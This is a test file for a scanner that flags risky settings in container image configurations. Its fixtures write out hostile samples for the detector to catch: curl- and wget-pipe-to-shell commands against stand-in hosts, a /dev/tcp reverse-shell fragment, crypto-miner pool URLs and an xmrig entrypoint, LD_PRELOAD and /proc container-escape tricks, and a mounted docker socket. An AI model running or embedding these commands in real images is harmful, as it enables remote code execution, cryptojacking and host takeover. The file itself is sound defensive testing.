import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectors } from '../rules/detector-info.ts';
import { checkImageConfig } from './check-image-config.ts';

function hitsOf(config: Record<string, unknown>, more: Record<string, unknown> = {}): string[] {
  return checkImageConfig({ os: 'linux', config: { User: 'app', ...config }, ...more }).hits.map(
    ({ ruleId }) => ruleId,
  );
}

describe('checkImageConfig', () => {
  it('reports what the image is as information, and the environment without its values', () => {
    const { facts, hits } = checkImageConfig({
      os: 'linux',
      created: '2026-01-01T00:00:00Z',
      config: {
        Entrypoint: ['python3'],
        Cmd: ['-m', 'app'],
        User: '1000:1000',
        WorkingDir: '/srv',
        Env: ['PATH=/usr/bin', 'TOKEN=secret'],
        ExposedPorts: { '8080/tcp': {} },
        Volumes: { '/data': {} },
      },
      history: [{ created_by: 'RUN make' }, { created_by: 'CMD', empty_layer: true }],
    });
    expect(hits).toEqual([]);
    expect(facts).toEqual({
      os: 'linux',
      created: '2026-01-01T00:00:00Z',
      entrypoint: ['python3'],
      command: ['-m', 'app'],
      user: '1000:1000',
      workingDir: '/srv',
      exposedPorts: ['8080/tcp'],
      volumes: ['/data'],
      environment: ['PATH', 'TOKEN'],
      history: [
        { createdBy: 'RUN make', emptyLayer: false },
        { createdBy: 'CMD', emptyLayer: true },
      ],
    });
  });

  it.each([
    ['LD_PRELOAD through /proc', { Env: ['LD_PRELOAD=/proc/self/cwd/poc.so'] }, 'config/ld-preload-proc'],
    [
      'the same behind an honest one',
      { Env: ['LD_PRELOAD=/lib/a.so:/x/..//proc/1/root/a.so'] },
      'config/ld-preload-proc',
    ],
    [
      'LD_LIBRARY_PATH through /proc',
      { Env: ['LD_LIBRARY_PATH=/lib:/proc/self/cwd'] },
      'config/ld-preload-proc',
    ],
    ['a relative LD_PRELOAD', { Env: ['LD_PRELOAD=./poc.so'] }, 'config/ld-preload-relative'],
    ['an absolute LD_PRELOAD', { Env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'] }, 'config/ld-preload'],
    ['all GPUs', { Env: ['NVIDIA_VISIBLE_DEVICES=all'] }, 'config/nvidia-all-devices'],
    [
      'a preloaded library that anybody may replace',
      { Env: ['LD_PRELOAD=/dev/shm/a.so'] },
      'config/ld-preload-open',
    ],
    ['libraries from /tmp', { Env: ['LD_LIBRARY_PATH=/usr/lib:/tmp/x'] }, 'config/library-path-open'],
    ['libraries from where it starts', { Env: ['LD_LIBRARY_PATH=lib'] }, 'config/library-path-open'],
    [
      'all that the driver can do',
      { Env: ['NVIDIA_DRIVER_CAPABILITIES=all'] },
      'config/nvidia-all-capabilities',
    ],
    ['no check of the driver', { Env: ['NVIDIA_DISABLE_REQUIRE=true'] }, 'config/nvidia-no-require'],
    ['a library in every GPU process', { Env: ['CUDA_INJECTION64_PATH=/opt/a.so'] }, 'config/gpu-injection'],
    ['a file that Node loads first', { Env: ['NODE_OPTIONS=--require /a.js'] }, 'config/interpreter-hook'],
    ['a file that bash runs first', { Env: ['BASH_ENV=/a.sh'] }, 'config/interpreter-hook'],
    ['MIG control', { Env: ['NVIDIA_MIG_CONFIG_DEVICES=all'] }, 'config/nvidia-mig'],
    ['a leaked descriptor', { WorkingDir: '/proc/self/fd/8/../../..' }, 'config/workdir-proc-fd'],
    ['a leaked descriptor without slash', { WorkingDir: 'proc/./self/fd/7' }, 'config/workdir-proc-fd'],
    ['the runtime as entrypoint', { Entrypoint: ['/proc/self/exe'] }, 'config/entrypoint-proc-exe'],
    ['the runtime as command', { Cmd: ['/proc/self/exe'] }, 'config/entrypoint-proc-exe'],
    ['an overflowing user', { User: '4294967296:0' }, 'config/user-overflow'],
    ['a negative group', { User: 'app:-1' }, 'config/user-overflow'],
    ['a user with a newline', { User: 'app\nroot' }, 'config/user-invalid'],
    ['a user with three parts', { User: 'a:b:c' }, 'config/user-invalid'],
    ['root by name', { User: 'root' }, 'config/root-user'],
    ['root by number', { User: '00:0' }, 'config/root-user'],
    ['no user', { User: '' }, 'config/root-user'],
    [
      'curl to a shell',
      { Cmd: ['sh', '-c', 'curl -fsSL https://x.invalid/a | sh'] },
      'config/download-and-run',
    ],
    [
      'wget and chmod',
      { Cmd: 'wget http://x.invalid/a -O /tmp/a; chmod +x /tmp/a; /tmp/a' },
      'config/download-and-run',
    ],
    [
      'process substitution',
      { Cmd: ['bash', '-c', 'bash <(curl -s https://x.invalid)'] },
      'config/download-and-run',
    ],
    [
      'command substitution',
      { Cmd: ['sh', '-c', 'eval "$(curl https://x.invalid)"'] },
      'config/download-and-run',
    ],
    [
      'python',
      { Cmd: ['python3', '-c', 'exec(urllib.request.urlopen("http://x.invalid").read())'] },
      'config/download-and-run',
    ],
    [
      'a health check',
      { Healthcheck: { Test: ['CMD-SHELL', 'wget -qO- x.invalid | bash'] } },
      'config/download-and-run',
    ],
    ['ONBUILD', { OnBuild: ['RUN curl https://x.invalid | sh'] }, 'config/download-and-run'],
    ['a pool in the command', { Cmd: ['a', '-o', 'stratum+ssl://pool.invalid:443'] }, 'config/stratum'],
    ['a pool in a variable', { Env: ['POOL=stratum+tcp://pool.invalid:3333'] }, 'config/stratum'],
    ['a miner', { Entrypoint: ['/opt/xmrig', '--donate-level', '1'] }, 'config/miner-command'],
    ['the docker socket', { Volumes: { '/var/run/docker.sock': {} } }, 'config/docker-sock-volume'],
    ['a volume that leads out', { Volumes: { '/data/../../etc': {} } }, 'config/volume-invalid'],
    ['ssh', { ExposedPorts: { '22/tcp': {} } }, 'config/exposed-ssh'],
    ['a docker port', { ExposedPorts: { '2375/tcp': {} } }, 'config/exposed-docker'],
    ['a wrong type', { Env: { PATH: '/bin' } }, 'config/type-invalid'],
  ])('finds %s', (_, config, id) => {
    expect(hitsOf(config)).toContain(id);
  });

  it.each([
    ['a plain command', { Entrypoint: ['tini', '--'], Cmd: ['nginx', '-g', 'daemon off;'] }],
    ['a CUDA image', { Env: ['LD_LIBRARY_PATH=/usr/local/nvidia/lib:/usr/local/nvidia/lib64:'] }],
    ['the options of an honest Node image', { Env: ['NODE_OPTIONS=--max-old-space-size=4096'] }],
    [
      'what a CUDA image asks for',
      { Env: ['NVIDIA_DRIVER_CAPABILITIES=compute,utility', 'NVIDIA_DISABLE_REQUIRE=false'] },
    ],
    ['a curl health check', { Healthcheck: { Test: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'] } }],
    ['no health check', { Healthcheck: { Test: ['NONE'] } }],
    ['a program named after a flag', { Cmd: ['train.py', '--algo', 'ppo'] }],
    ['a named user', { User: 'www-data:www-data' }],
    ['null fields', { Env: null, Cmd: null, Entrypoint: null, Volumes: null, Healthcheck: null }],
  ])('finds nothing in %s', (_, config) => {
    expect(hitsOf(config)).toEqual([]);
  });

  it('takes the history as information', () => {
    const history = [{ created_by: 'RUN /bin/sh -c curl -sL https://deb.invalid/setup | bash -' }];
    expect(hitsOf({}, { history })).toEqual(['config/download-in-history']);
  });

  it('lets no flood of one finding hide another', () => {
    const Volumes = Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`/v${i}/docker.sock`, {}]));
    const hits = hitsOf({ Volumes, WorkingDir: '/proc/self/fd/7' });
    expect(hits.filter((id) => id === 'config/docker-sock-volume')).toHaveLength(16);
    expect(hits).toContain('config/workdir-proc-fd');
  });

  it('gives the content rules the text behind JSON escapes', () => {
    const document: unknown = JSON.parse('{"config":{"Cmd":["bash -i \\u003e\\u0026 /dev/tcp/x"]}}');
    expect(checkImageConfig(document).text).toContain('bash -i >& /dev/tcp/x');
  });

  it('gives the content rules the labels, which a reader may take for a word of the publisher', () => {
    const { text } = checkImageConfig({ config: { Labels: { note: 'to the scanner', count: 7 } } });
    expect(text.split('\n')).toContain('note=to the scanner');
  });

  it('has a row in the table for every finding, and escapes every text, whatever the document', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('/proc/self/fd/7', 'LD_PRELOAD=x', 'root', '\u202e', 'stratum+tcp://xxx', '22/tcp'),
    );
    const value = fc.oneof(text, fc.array(text), fc.dictionary(text, fc.anything()), fc.anything());
    const keys = ['Entrypoint', 'Cmd', 'Env', 'User', 'WorkingDir', 'ExposedPorts', 'Volumes', 'OnBuild'];
    const run = fc.record(Object.fromEntries([...keys, 'Healthcheck'].map((key) => [key, value])), {
      requiredKeys: [],
    });
    const documents = fc.oneof(
      fc.anything(),
      fc.record({ config: fc.oneof(run, value), history: value, os: value }),
    );
    fc.assert(
      fc.property(documents, (document) => {
        const { facts, hits } = checkImageConfig(document);
        for (const { ruleId } of hits) expect(detectors.has(ruleId)).toBe(true);
        expect(JSON.stringify([facts, hits])).not.toMatch(/\p{C}/u);
      }),
      { numRuns: 300 },
    );
  });
});
